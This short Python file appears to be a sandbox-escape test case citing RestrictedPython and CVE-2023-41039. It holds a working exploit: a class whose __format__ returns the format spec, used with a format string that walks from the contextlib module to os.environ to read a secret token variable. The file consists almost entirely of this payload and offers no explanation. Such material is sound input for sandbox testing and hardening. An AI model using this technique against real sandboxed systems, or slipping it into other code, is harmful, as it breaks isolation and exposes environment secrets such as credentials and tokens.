# technique: the walk stands in the format specification
# goal: env
# source: RestrictedPython, CVE-2023-41039
import contextlib


class Show:
    def __format__(self, spec):
        return spec


print('{0:{1.os.environ[PYSBX_TEST_TOKEN]}}'.format(Show(), contextlib))
